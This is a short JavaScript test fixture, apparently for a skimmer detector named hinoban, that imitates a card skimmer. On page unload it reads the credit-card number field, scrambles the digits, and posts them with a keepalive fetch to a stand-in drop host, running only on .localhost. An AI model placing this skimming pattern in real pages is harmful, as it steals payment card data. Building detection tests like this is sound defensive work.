/* Harmless imitation, for hinoban's tests: read in beforeunload, sent by a request that outlives the page. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
addEventListener('beforeunload', function () {
	var n = document.querySelector('input[autocomplete=cc-number]');
	if (n && n.value) fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true,
		body: n.value.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join('')});
});
